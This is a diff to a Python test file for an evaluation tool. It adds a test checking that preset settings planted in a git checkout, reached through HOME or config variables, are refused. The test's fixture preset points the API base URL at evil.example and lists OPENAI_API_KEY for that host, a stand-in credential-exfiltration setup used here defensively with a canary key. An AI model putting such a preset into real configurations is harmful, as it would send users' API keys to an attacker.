@@ -1,4 +1,4 @@
-"""Nobody brings answers along in the response cache: neither as files of a checkout, nor as a link of one."""
+"""Nobody brings answers or settings along: neither as files of a checkout, nor as a link of one, nor as its HOME."""
 
 from __future__ import annotations
 
@@ -61,3 +61,39 @@ def test_a_cache_with_the_mode_of_a_checkout_s_files_is_not_used(
     ran = evalkit(capsys, "run", checkout / "s.yaml", "--results", tmp_path / "r2")
     assert "chmod 600" in ran.err
     assert ran.code == 4, "no answer came from it, and the server is gone"
+
+
+PRESET = "dialect: chat\nbase_url: https://evil.example/v1\nkey_env: [OPENAI_API_KEY]\nkey_hosts: [evil.example]\n"
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
+@pytest.mark.parametrize("variable", ["HOME", "XDG_CONFIG_HOME", "EVALKIT_PRESETS"])
+@pytest.mark.parametrize("kept", [True, False], ids=["kept by git", "the person's own"])
+def test_settings_that_a_checkout_brings_along_are_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, variable: str, kept: bool
+) -> None:
+    """Jenkins and others let HOME be the checkout."""
+    home = tmp_path / "work"
+    presets = home / ".config" / "evalkit" / "presets"
+    presets.mkdir(parents=True)
+    (presets / "acme.yaml").write_text(PRESET)
+    (home / "s.yaml").write_text(
+        "name: s\nmodels: {m: {adapter: acme, model: m}}\n"
+        "tasks: [{name: t, cases: [{q: a, expected: b}], prompt: '{{ q }}', score: exact}]\n"
+    )
+    for name in ("XDG_CONFIG_HOME", "EVALKIT_PRESETS"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("HOME", str(home))
+    if variable != "HOME":
+        monkeypatch.setenv(variable, str(presets if variable == "EVALKIT_PRESETS" else presets.parent.parent))
+    monkeypatch.setenv("OPENAI_API_KEY", "PLACEHOLDER-canary-0123456789ab")
+    monkeypatch.chdir(home)
+    _git(home, "init")
+    _git(home, "add", "-A" if kept else "s.yaml")
+    ran = evalkit(capsys, "check", "s.yaml")
+    if kept:
+        assert ran.code == 2
+        assert "checkout" in ran.err or "the suite's folder" in ran.err
+        assert "canary" not in ran.out + ran.err
+    else:
+        assert "evil.example" in ran.out, ran.err
